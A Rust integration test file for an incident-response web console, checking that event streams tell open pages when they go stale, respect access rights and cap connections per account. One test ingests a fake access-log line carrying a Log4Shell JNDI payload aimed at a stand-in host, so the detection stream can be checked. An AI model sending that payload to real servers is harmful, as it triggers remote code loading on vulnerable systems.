//! Pages of lists say whether they still are as they are shown: `/events?topic=…`.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpStream;
use std::sync::mpsc;
use std::thread;

use relight_engine::SIGNS;
use relight_engine::watch::Feed;

use crate::door_support::{START, World, clock, person};
use crate::support::{DEADLINE, wait_until};
use crate::web_acts::{behind_an_edge, decide, open_incident, propose};
use crate::web_console::{follow, has};
use crate::web_picks::deploy;

/// The topic of a page and the fingerprint of what it shows.
fn shown(page: &str) -> (String, String) {
    let value = |name: &str| {
        let rest = page.split(&format!(" {name}=\"")).nth(1).unwrap_or_else(|| panic!("{page}"));
        rest.split('"').next().unwrap().to_owned()
    };
    (value("data-topic"), value("data-shown"))
}

/// What the stream of a topic says until it is, or is no more, this fingerprint.
fn told(
    world: &World,
    cookie: &str,
    (topic, shown): (String, String),
    until_same: bool,
) -> thread::JoinHandle<Vec<String>> {
    let (address, cookie) = (world.address(), cookie.to_owned());
    thread::spawn(move || {
        let request = format!("GET /events?lang=en&topic={topic} HTTP/1.1\r\nCookie: {cookie}\r\n");
        let line = format!("data: {{\"shown\":\"{shown}\",\"v\":1}}");
        follow(address, &request, |lines| {
            lines.iter().any(|it| it.starts_with("data: ") && (*it == line) == until_same)
        })
    })
}

const PAGES: [(&str, &str); 5] = [
    ("/plans?lang=en", "plans"),
    ("/sites?lang=en", "sites"),
    ("/edges?lang=en", "edges"),
    ("/incident/CVE-2021-44228?lang=en", "incident:CVE-2021-44228"),
    ("/watch?lang=en", "watch"),
];

/// Goal: no page shows an old state in silence. Before, only the wall had a stream. Method: each
/// page and a stream of it that agree; then an order, of which each stream but that of the watch
/// tells; then each page again, which agrees with its stream again.
#[test]
fn a_page_that_is_old_is_told_so() {
    clock!(now, now_set);
    now_set(START);
    let (mut chief, mut zoe) = Default::default();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        chief = person(store, "chief", 1, &[("commander", "/")]);
        zoe = person(store, "zoe", 2, &[("approver", "/")]);
    });
    open_incident(&world, &chief);
    let pages = |(path, topic): (&str, &str)| {
        let (status, _, page) = world.get(path, &zoe);
        assert_eq!(status, 200, "{path}");
        let shown = shown(&page);
        assert_eq!(shown.0, topic);
        assert!(page.contains("<rl-live class=\"live\" data-mode=\"wait\" data-topic="), "{page}");
        shown
    };
    let before = PAGES.map(pages);
    let agree = || {
        for shown in PAGES.map(pages) {
            drop(told(&world, &zoe, shown, true).join().unwrap());
        }
    };
    agree();
    let streams = before.clone().into_iter().filter(|(topic, _)| topic != "watch");
    let streams: Vec<_> = streams.map(|shown| told(&world, &zoe, shown, false)).collect();
    assert_eq!(propose(&world, &chief, "care").0, 303);
    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
    for stream in streams {
        drop(stream.join().unwrap());
    }
    let after = PAGES.map(pages);
    assert_eq!(before[4], after[4], "nobody tried a door");
    agree();
    // A campaign is news of the watch, and so are signs that it succeeded.
    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x1.test/a} \
                HTTP/1.1\" 404 12 \"-\" \"-\"\n";
    let site = world.store.sites().unwrap().into_iter().find(|it| it.slug.as_str() == "care");
    let site = site.unwrap();
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    let watching = told(&world, &zoe, after[4].clone(), false);
    world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
    drop(watching.join().unwrap());
    let campaign = pages(PAGES[4]);
    let watching = told(&world, &zoe, campaign, false);
    let sign = "2021-12-10T12:00:05Z,care,name-query,x1.test\n";
    std::fs::write(world.store.path().with_file_name(SIGNS), sign).unwrap();
    drop(watching.join().unwrap());
    world.web.stop();
}

/// Goal: who is asked to agree hears of it on whatever page is open, and who asked sees on the page
/// of the plan that somebody did. Method: streams that began before; then the plan, then the
/// answer.
#[test]
fn a_plan_is_told_on_every_page_and_its_own_page_follows() {
    clock!(now, now_set);
    now_set(START);
    let (mut chief, mut zoe, mut owner) = Default::default();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        chief = person(store, "chief", 1, &[("commander", "/")]);
        zoe = person(store, "zoe", 2, &[("approver", "/")]);
        owner = person(store, "owner", 3, &[("site-owner", "energy/Utility")]);
    });
    open_incident(&world, &chief);
    let asked = |cookie: &str| {
        let (begun, begins) = mpsc::channel();
        let request = format!("GET /events?lang=en&topic=sites HTTP/1.1\r\nCookie: {cookie}\r\n");
        let address = world.address();
        let stream = thread::spawn(move || {
            follow(address, &request, |lines| {
                let is_calm = has(lines, "data: {\"asked\":\"\"");
                if is_calm {
                    // Nobody waits for the second time.
                    let _ = begun.send(());
                }
                is_calm && has(lines, "data: {\"asked\":\"A-0001 waits for your agreement\"")
            })
        });
        begins.recv_timeout(DEADLINE).unwrap();
        stream
    };
    let stream = asked(&zoe);
    assert_eq!(propose(&world, &chief, "care").0, 303);
    drop(stream.join().unwrap());

    let page = |cookie: &str| shown(&world.get("/approve/A-0001?lang=en", cookie).2);
    let before = page(&chief);
    assert_eq!(before.0, "plan:A-0001");
    drop(told(&world, &chief, before.clone(), true).join().unwrap());
    let stream = told(&world, &chief, before.clone(), false);
    assert_eq!(decide(&world, &zoe, "A-0001", "decision=approve").0, 303);
    drop(stream.join().unwrap());
    let after = page(&chief);
    assert_ne!(after, before);
    drop(told(&world, &chief, after, true).join().unwrap());
    // Who may not read a plan learns as much of it as of one that is not there.
    for id in ["A-0001", "A-0099"] {
        let (status, _, text) = world.get(&format!("/events?lang=en&topic=plan:{id}"), &owner);
        assert!(status == 200 && !text.contains("event"), "{id}: {text}");
    }
    world.web.stop();
}

/// A stream tells nobody more than its page does.
#[test]
fn a_topic_is_there_for_whom_its_page_is() {
    clock!(now, now_set);
    now_set(START);
    let (mut owner, mut nobody) = Default::default();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        owner = person(store, "owner", 3, &[("site-owner", "energy/Utility")]);
        nobody = person(store, "nobody", 4, &[]);
    });
    for topic in ["edges", "watch"] {
        assert_eq!(world.get(&format!("/events?topic={topic}"), &owner).0, 403, "{topic}");
        assert_eq!(world.get(&format!("/events?topic={topic}"), &nobody).0, 403, "{topic}");
    }
    for topic in ["plan", "incident:CVE-1", "incident:", "everything"] {
        assert_eq!(world.get(&format!("/events?topic={topic}"), &owner).0, 404, "{topic}");
    }
    assert_eq!(world.get("/events?topic=plans", "").0, 401);
    // Of sites of others nothing can be told from it either.
    let (_, _, own) = world.get("/sites?lang=en", &owner);
    let (_, _, none) = world.get("/sites?lang=en", &nobody);
    assert_ne!(shown(&own).1, shown(&none).1);
    for (cookie, page) in [(&owner, &own), (&nobody, &none)] {
        drop(told(&world, cookie, shown(page), true).join().unwrap());
    }
    world.web.stop();
}

/// Goal: a list that somebody asked for by a query is told to be old when another site fits.
/// Method: what a site is built with, which no row of the list shows; the list of all stays as it
/// was.
#[test]
fn a_list_is_old_when_other_sites_fit_its_query() {
    clock!(now, now_set);
    now_set(START);
    let (mut chief, mut owner) = Default::default();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        chief = person(store, "chief", 1, &[("commander", "/")]);
        owner = person(store, "owner", 3, &[("site-owner", "energy/Utility")]);
    });
    let page = |query: &str, cookie: &str| {
        let (status, _, page) = world.get(&format!("/sites?lang=en{query}"), cookie);
        assert_eq!(status, 200, "{page}");
        let (topic, shown) = shown(&page);
        (format!("{topic}{query}"), shown)
    };
    let query = "&q=stack:java";
    let (all, asked) = (page("", &chief), page(query, &chief));
    let elsewhere = page(query, &owner);
    drop(told(&world, &chief, asked.clone(), true).join().unwrap());
    let stream = told(&world, &chief, asked.clone(), false);
    deploy(&world, "care", &["pkg:maven/org.example/app@1"]);
    drop(stream.join().unwrap());
    assert_ne!(page(query, &chief), asked);
    assert_eq!(page("", &chief), all, "no row is another one");
    assert_eq!(page(query, &owner), elsewhere, "of sites of others nothing is told");
    drop(told(&world, &chief, page(query, &chief), true).join().unwrap());
    world.web.stop();
}

/// Before, an account without any role took every place of the lists from all others.
#[test]
fn an_account_has_its_share_of_the_streams() {
    clock!(now, now_set);
    now_set(START);
    let (mut owner, mut nobody) = Default::default();
    let world = World::start(now, |store| {
        behind_an_edge(store);
        owner = person(store, "owner", 3, &[("site-owner", "energy/Utility")]);
        nobody = person(store, "nobody", 4, &[]);
    });
    let open = |path: &str, cookie: &str| {
        let mut stream = TcpStream::connect(world.address()).unwrap();
        stream.set_read_timeout(Some(DEADLINE)).unwrap();
        let head = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\n\r\n");
        stream.write_all(head.as_bytes()).unwrap();
        let mut line = String::new();
        BufReader::new(&stream).read_line(&mut line).unwrap();
        (stream, line)
    };
    for (path, cookie) in [("/events?topic=sites", &nobody), ("/events", &owner)] {
        let held: Vec<_> = (0..16).map(|_| open(path, cookie)).collect();
        assert!(held.iter().all(|(_, line)| line.contains(" 200 ")), "{held:?}");
        assert!(open(path, cookie).1.contains(" 429 "), "{path}");
        let other = if path == "/events" { "/events?topic=sites" } else { "/events?topic=plans" };
        assert!(open(other, &owner).1.contains(" 200 "), "others have theirs");
        drop(held);
        wait_until("its places are free again", || open(path, cookie).1.contains(" 200 "));
    }
    world.web.stop();
}
